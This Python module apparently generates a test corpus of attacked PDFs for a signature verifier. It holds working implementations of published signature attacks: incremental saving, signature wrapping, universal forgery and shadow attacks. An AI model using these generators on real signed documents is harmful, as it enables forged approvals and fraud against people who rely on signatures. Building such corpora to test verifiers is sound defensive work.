"""Attacked PDFs built from real signed ones, for the verifier's attack corpus.

Every generator takes the bytes of a PDF and returns new bytes; none of them signs anything
(callers sign with koin or pyHanko first). The attacks are the published ones against PDF
signatures:

* incremental saving (ISA) and universal signature forgery (USF): Mladenov, Mainka, Meyer zu
  Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund" (ACM CCS 2019);
* signature wrapping (SWA): the same paper, here as a rewritten ``/ByteRange`` and bytes
  smuggled into the ``/Contents`` gap;
* shadow attacks, "hide" and "replace": Mainka, Mladenov, Rohlmann, Schwenk, "Attacks bypassing
  the signature validation in PDF" (NDSS 2021).

Incremental updates are written with pyHanko's :class:`IncrementalPdfFileWriter`, exactly as a
PDF editor would; byte surgery is used only where the attack is byte surgery.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

__all__ = [
    "FORGERY_VARIANTS",
    "add_annotation",
    "add_hidden_content",
    "add_signature_field",
    "add_uri_link",
    "byte_range",
    "contents_gap",
    "empty_signed_data",
    "flip_byte",
    "inject_into_gap",
    "page_font_ref",
    "page_ref",
    "replace_object",
    "replace_page_content",
    "replacement_appearance",
    "replacement_font",
    "rewrite_byte_range",
    "show_hidden_content",
    "signature_appearance_ref",
    "text_stream",
]

#: Font resource name the attacks use for their own text (Helvetica needs no embedding).
ATTACK_FONT = "/KoinAttackF1"


# -- helpers ----------------------------------------------------------------------------------


def _update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Apply ``change`` as one incremental update to ``data``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def text_stream(text: str, *, y: float = 700) -> generic.StreamObject:
    """A page content stream showing ``text`` (ASCII) in large Helvetica."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    commands = f"BT {ATTACK_FONT} 28 Tf 72 {y:g} Td ({escaped}) Tj ET".encode("ascii")
    return generic.StreamObject(stream_data=commands)


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )


def page_ref(reader: PdfFileReader | IncrementalPdfFileWriter, page: int = 0) -> generic.Reference:
    ref, _resources = reader.find_page_for_modification(page)
    return ref  # type: ignore[no-any-return]


def _add_attack_font(writer: IncrementalPdfFileWriter, page: int) -> None:
    """Register Helvetica as :data:`ATTACK_FONT` in the page's font resources."""
    page_obj = page_ref(writer, page).get_object()
    resources = page_obj["/Resources"]
    if "/Font" not in resources:
        resources[pdf_name("/Font")] = generic.DictionaryObject()
        writer.update_container(resources)
    fonts = resources["/Font"]
    fonts[pdf_name(ATTACK_FONT)] = writer.add_object(_helvetica())
    writer.update_container(fonts)


# -- reading signatures -----------------------------------------------------------------------

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*([0-9\s]+?)\s*\]")


def byte_range(data: bytes, index: int = -1) -> list[int]:
    """The ``/ByteRange`` of signature ``index`` (file order) as written in the bytes."""
    matches = list(_BYTE_RANGE.finditer(data))
    return [int(v) for v in matches[index].group(1).split()]


def contents_gap(data: bytes, index: int = -1) -> tuple[int, int]:
    """``(start, end)`` of the ``<hex>`` string that signature ``index``'s ``/ByteRange``
    leaves out."""
    values = byte_range(data, index)
    return values[1], values[2]


# -- 1. tampering with signed bytes -----------------------------------------------------------


def flip_byte(data: bytes, position: int) -> bytes:
    tampered = bytearray(data)
    tampered[position] ^= 0x01
    return bytes(tampered)


# -- 2. incremental saving attack -------------------------------------------------------------


def replace_page_content(signed: bytes, text: str, *, page: int = 0) -> bytes:
    """ISA: an incremental update points the page at a brand-new content stream.

    The signed bytes stay untouched, so a reader that checks only the ``/ByteRange`` digest
    (poppler's pdfsig) still calls the signature valid while it shows ``text``.
    """

    def change(writer: IncrementalPdfFileWriter) -> None:
        _add_attack_font(writer, page)
        ref = page_ref(writer, page)
        page_obj = ref.get_object()
        page_obj[pdf_name("/Contents")] = writer.add_object(text_stream(text))
        writer.mark_update(ref)

    return _update(signed, change)


# -- 3. signature wrapping --------------------------------------------------------------------


def rewrite_byte_range(signed: bytes, values: list[int], *, index: int = -1) -> bytes:
    """Overwrite the digits of signature ``index``'s ``/ByteRange`` in place.

    pyHanko leaves spaces after the array, so any four (or more) numbers fit without moving a
    byte; the file stays parseable and every other offset stays right.
    """
    match = list(_BYTE_RANGE.finditer(signed))[index]
    old = match.group(0)
    new = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    tail = signed[match.end() : match.end() + 200]
    room = len(old) + len(tail) - len(tail.lstrip(b" "))
    if len(new) > room:
        raise ValueError("the new /ByteRange does not fit in place")
    new = new.ljust(room, b" ")
    return signed[: match.start()] + new + signed[match.start() + room :]


def inject_into_gap(signed: bytes, payload: bytes, *, index: int = -1) -> bytes:
    """SWA: smuggle ``payload`` into the ``/Contents`` gap, keeping ``/ByteRange`` as it is.

    The tail of the zero padding becomes ``> payload /KoinPad <00…>``: the CMS
    (DER, self-delimiting) still parses, the digest over the signed ranges is unchanged, but
    the gap now holds more than the hex string of ``/Contents`` — the dictionary gains
    whatever ``payload`` declares.
    """
    start, end = contents_gap(signed, index)
    digits = signed[start + 1 : end - 1]
    filler = b"> " + payload + b" /KoinPad <"
    if (len(digits) - len(filler)) % 2:
        filler = b"> " + payload + b"  /KoinPad <"
    tail = 16  # a short hex string: the value of /KoinPad, closing the gap again
    keep = len(digits) - len(filler) - tail
    if keep < 0 or digits[keep:].strip(b"0"):
        raise ValueError("not enough zero padding in /Contents for the payload")
    new_gap = b"<" + digits[:keep] + filler + b"0" * tail + b">"
    return signed[:start] + new_gap + signed[end:]


# -- 4. universal signature forgery -----------------------------------------------------------

#: How the forged signature dictionary is broken (see :func:`add_signature_field`).
FORGERY_VARIANTS: tuple[str, ...] = (
    "byte_range_missing",
    "byte_range_empty",
    "byte_range_null",
    "contents_missing",
    "contents_empty",
    "contents_null",
    "no_signer_info",
)

_PLACEHOLDER_RANGE = [0, 8888888888, 8888888888, 8888888888]
_DELIMITER = re.compile(rb"[\s/>]")
_RESERVED_CONTENTS = 8192


def empty_signed_data() -> bytes:
    """DER of a CMS ``ContentInfo`` with a detached SignedData that has no SignerInfo."""
    signed_data = cms.SignedData(
        {
            "version": "v1",
            "digest_algorithms": [{"algorithm": "sha256"}],
            "encap_content_info": {"content_type": "data"},
            "signer_infos": [],
        }
    )
    return bytes(cms.ContentInfo({"content_type": "signed_data", "content": signed_data}).dump())


def add_signature_field(
    base: bytes, variant: str, *, contents: bytes | None = None, name: str = "Forged"
) -> bytes:
    """USF: an incremental update adds a signature field whose value is broken as ``variant``
    says (one of :data:`FORGERY_VARIANTS`).

    ``contents`` (DER) goes into ``/Contents`` where the variant keeps it — e.g. a genuine CMS
    copied from another document; for ``no_signer_info`` the CMS is :func:`empty_signed_data`
    and ``/ByteRange`` is made exactly right, so only the CMS is at fault.
    """
    if variant not in FORGERY_VARIANTS:
        raise ValueError(f"unknown variant {variant}")
    if variant == "no_signer_info":
        contents = empty_signed_data()
    sig = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Sig"),
            pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name("/ETSI.CAdES.detached"),
            pdf_name("/M"): generic.pdf_string("D:20240401090000+09'00'"),
        }
    )
    hex_contents = generic.ByteStringObject((contents or b"").ljust(_RESERVED_CONTENTS, b"\0"))
    if variant == "byte_range_empty":
        sig[pdf_name("/ByteRange")] = generic.ArrayObject()
    elif variant == "byte_range_null":
        sig[pdf_name("/ByteRange")] = generic.NullObject()
    elif variant != "byte_range_missing":
        sig[pdf_name("/ByteRange")] = generic.ArrayObject(
            generic.NumberObject(v) for v in _PLACEHOLDER_RANGE
        )
    if variant == "contents_empty":
        sig[pdf_name("/Contents")] = generic.ByteStringObject(b"")
    elif variant == "contents_null":
        sig[pdf_name("/Contents")] = generic.NullObject()
    elif variant != "contents_missing":
        sig[pdf_name("/Contents")] = hex_contents

    def change(writer: IncrementalPdfFileWriter) -> None:
        sig_ref = writer.add_object(sig)
        target = page_ref(writer, 0)
        field = generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.pdf_string(name),
                pdf_name("/V"): sig_ref,
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/F"): generic.NumberObject(132),  # hidden, locked
                pdf_name("/Rect"): generic.ArrayObject(generic.NumberObject(0) for _ in range(4)),
                pdf_name("/P"): target,
            }
        )
        field_ref = writer.add_object(field)
        root = writer.root
        if "/AcroForm" not in root:
            root[pdf_name("/AcroForm")] = writer.add_object(
                generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject()})
            )
            writer.update_root()
        form = root["/AcroForm"]
        writer.update_container(form)
        fields = form["/Fields"]
        fields.append(field_ref)
        writer.update_container(fields)
        form[pdf_name("/SigFlags")] = generic.NumberObject(3)
        writer.register_annotation(target, field_ref)

    forged = _update(base, change)
    if variant not in ("byte_range_missing", "byte_range_empty", "byte_range_null"):
        forged = _fill_placeholder_range(forged)
    return forged


def _fill_placeholder_range(data: bytes) -> bytes:
    """Replace the placeholder ``/ByteRange`` by the true one around the value of
    ``/Contents`` in the same dictionary (both were written by :func:`add_signature_field`)."""
    placeholder = b"[ " + b" ".join(str(v).encode() for v in _PLACEHOLDER_RANGE) + b" ]"
    at = data.rindex(placeholder)
    object_start = data.rindex(b" obj", 0, at)
    object_end = data.index(b"endobj", at)
    contents_at = data.find(b"/Contents ", object_start, object_end)
    if contents_at < 0:  # no /Contents to leave out: "sign" the whole file
        values = [0, len(data), len(data), 0]
    else:
        start = contents_at + len(b"/Contents ")
        if data[start : start + 1] == b"<":
            end = data.index(b">", start) + 1
        else:  # e.g. null: the gap is that token
            delimiter = _DELIMITER.search(data, start)
            end = delimiter.start() if delimiter else len(data)
        values = [0, start, end, len(data) - end]
    new = b"[" + b" ".join(str(v).encode() for v in values) + b"]"
    new = new.ljust(len(placeholder), b" ")
    return data[:at] + new + data[at + len(placeholder) :]


# -- 5. shadow attacks ------------------------------------------------------------------------


def add_hidden_content(unsigned: bytes, text: str, *, page: int = 0) -> tuple[bytes, int]:
    """Prepare a "hide" shadow attack before signing: an unused content stream showing
    ``text`` (and the font it needs, in the page's resources) that nothing references yet.

    :return: the document to have signed and the object number of the hidden stream.
    """
    hidden: list[int] = []

    def change(writer: IncrementalPdfFileWriter) -> None:
        _add_attack_font(writer, page)
        ref = writer.add_object(text_stream(text))
        hidden.append(ref.idnum)

    prepared = _update(unsigned, change)
    return prepared, hidden[0]


def show_hidden_content(signed: bytes, idnum: int, *, page: int = 0) -> bytes:
    """The "hide" shadow attack after signing: only re-point the page's ``/Contents`` at the
    stream that was signed but unused. No new object is introduced."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = page_ref(writer, page)
        page_obj = ref.get_object()
        page_obj[pdf_name("/Contents")] = generic.IndirectObject(idnum, 0, writer)
        writer.mark_update(ref)

    return _update(signed, change)


def page_font_ref(data: bytes, *, page: int = 0) -> generic.Reference:
    """The reference of the first font the page uses (the embedded CJK font of our permits)."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    resources = page_ref(reader, page).get_object()["/Resources"]
    fonts = resources["/Font"]
    key = next(iter(fonts.keys()))
    return fonts.raw_get(key).reference  # type: ignore[no-any-return]


def signature_appearance_ref(data: bytes, index: int = 0) -> generic.Reference:
    """The normal appearance XObject (the visible seal stamp) of signature ``index``."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    emb = reader.embedded_signatures[index]
    return emb.sig_field["/AP"].raw_get("/N").reference  # type: ignore[no-any-return]


def replace_object(
    signed: bytes, ref: generic.Reference, new_object: generic.PdfObject
) -> bytes:
    """The "replace" shadow attack: an incremental update overwrites object ``ref`` (a font or
    an XObject the signed page already uses) under the same object number."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        # what mark_update() does, with a new object instead of the current one
        writer.objects[(ref.generation, ref.idnum)] = new_object

    return _update(signed, change)


def replacement_font() -> generic.DictionaryObject:
    """A font dictionary to put in place of the page's font (renders other glyphs)."""
    return _helvetica()


def replacement_appearance(width: float = 200, height: float = 80) -> generic.StreamObject:
    """A stamp appearance that shows something else than the signer's seal."""
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                generic.FloatObject(v) for v in (0, 0, width, height)
            ),
            pdf_name("/Resources"): generic.DictionaryObject(
                {
                    pdf_name("/Font"): generic.DictionaryObject(
                        {pdf_name(ATTACK_FONT): _helvetica()}
                    )
                }
            ),
        },
        stream_data=f"BT {ATTACK_FONT} 14 Tf 4 30 Td (APPROVED BY SOMEONE ELSE) Tj ET".encode(),
    )
    return stream


# -- 12. annotations --------------------------------------------------------------------------


def add_annotation(
    signed: bytes, text: str = "VOID", *, page: int = 0, new_content: str | None = None
) -> bytes:
    """An incremental update adding a free-text annotation over the page.

    With ``new_content`` the same update also points the page at a new content stream: an
    incremental saving attack dressed up as a harmless comment.
    """

    def change(writer: IncrementalPdfFileWriter) -> None:
        if new_content is not None:
            _add_attack_font(writer, page)
            page_obj = page_ref(writer, page).get_object()
            page_obj[pdf_name("/Contents")] = writer.add_object(text_stream(new_content))
        target = page_ref(writer, page)
        annotation = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (72, 600, 400, 660)
                ),
                pdf_name("/Contents"): generic.pdf_string(text),
                pdf_name("/DA"): generic.pdf_string("/Helv 36 Tf 1 0 0 rg"),
                pdf_name("/P"): target,
            }
        )
        writer.register_annotation(target, writer.add_object(annotation))

    return _update(signed, change)


def add_uri_link(data: bytes, url: str, *, page: int = 0) -> bytes:
    """An incremental update adding a link annotation whose action opens ``url``."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        target = page_ref(writer, page)
        link = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Link"),
                pdf_name("/Rect"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (72, 72, 300, 100)
                ),
                pdf_name("/Border"): generic.ArrayObject(
                    generic.NumberObject(0) for _ in range(3)
                ),
                pdf_name("/A"): generic.DictionaryObject(
                    {
                        pdf_name("/S"): pdf_name("/URI"),
                        pdf_name("/URI"): generic.pdf_string(url),
                    }
                ),
            }
        )
        writer.register_annotation(target, writer.add_object(link))

    return _update(data, change)
